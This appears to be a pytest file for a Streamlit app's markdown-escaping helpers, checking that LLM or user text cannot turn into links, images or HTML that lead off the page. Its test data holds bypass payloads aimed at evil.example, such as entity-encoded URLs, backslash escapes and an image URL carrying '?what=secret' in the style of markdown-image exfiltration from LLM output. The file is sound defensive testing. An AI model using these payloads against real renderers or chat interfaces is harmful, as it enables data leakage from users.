import re
from collections.abc import Callable

import pytest
from streamlit.testing.v1 import AppTest

from prompt2mesh.web.markdown_text import formatted, literal
from tests.support.rendered_markdown import rendered

UNDONE = (
    r"\[press here\](//evil.example)", r"\\[press here\\](//evil.example)", r"\!\[a picture\](//evil.example/leak.png)",
    r"\<img src=//evil.example/x\>", r"\<https\://evil.example\>", "https&colon;//evil.example/x",
    "https&#58;//evil.example/x", "https&#x3a;//evil.example", "https:&sol;/evil.example", "ww&#119;.evil.example",
    "&#119;ww.evil.example", r"https\://evil.example", r"https:\/\/evil.example", r"\:red\[danger\] &dollar;x&dollar;",
    "&lt;img src=x&gt; &amp;lt; AT&T", "\\",
)  # fmt: skip


def test_a_text_of_a_person_has_no_signs_left() -> None:
    assert literal("**bold** [x](y) $1 :red[a]") == r"\*\*bold\*\* \[x\]\(y\) \$1 \:red\[a\]"


@pytest.mark.parametrize(
    "text",
    [
        "![a picture](https://evil.example/?what=secret)",
        "[press here](https://evil.example)",
        "<img src=https://evil.example/x>",
        "see https://evil.example/x",
        ":red[danger] :material/home:",
        "![x][1]\n\n[1]: https://evil.example/x",
        "it costs $2 or $3",
    ],
)
def test_nothing_of_an_llm_leads_out_of_the_page(text: str) -> None:
    shown = formatted(text)
    assert re.search(r"(?<!\\)[\[\]<>!:$]", shown) is None
    assert shown.replace("\\", "").replace("\u2060", "") == text


@pytest.mark.parametrize("text", ["see https://evil.example/x", "WWW.evil.example", "ada@evil.example"])
def test_an_address_does_not_become_a_link(text: str) -> None:
    assert re.search(r"://|www\.|\w@", formatted(text), re.IGNORECASE) is None


@pytest.mark.parametrize("text", ["see https://evil.example/x", "(http://evil.example/leak.png)", "WWW.evil.example"])
def test_an_address_in_a_name_does_not_become_a_link_either(text: str) -> None:
    """Signs before its letters do not hinder: Streamlit's markdown looks for addresses once they are gone."""
    shown = literal(text).replace("\\", "")
    assert re.search(r"://|www\.", shown, re.IGNORECASE) is None
    assert shown.replace("\u2060", "") == text


@pytest.mark.parametrize("text", UNDONE)
@pytest.mark.parametrize("shown", [formatted, literal])
def test_no_text_undoes_what_holds_it(text: str, shown: Callable[[str], str]) -> None:
    """By a backslash of its own, or as an entity, which is a sign once it is read."""
    found = rendered(shown(text))
    assert found.ways_out == ()
    assert found.text == text, "letter by letter"


def test_the_judge_of_these_tests_finds_ways_out() -> None:
    for text in (
        "[a](//evil)",
        "![a](//evil)",
        "<img src=x>",
        "see https&colon;//evil",
        "ww&#119;.evil.example",
        "<http://x>",
    ):
        assert rendered(text).ways_out, text


def test_lists_and_emphasis_of_an_llm_stay() -> None:
    assert formatted("**Two** things:\n\n- one\n- `two`") == "**Two** things\\:\n\n- one\n- `two`"


def page() -> None:
    import streamlit as st  # noqa: PLC0415 - the script runs by itself

    from prompt2mesh.web.markdown_text import formatted  # noqa: PLC0415

    st.markdown(formatted("**75 cm** [high](https://x)"))


def test_streamlit_takes_it() -> None:
    app = AppTest.from_function(page).run(timeout=30)
    assert not app.exception
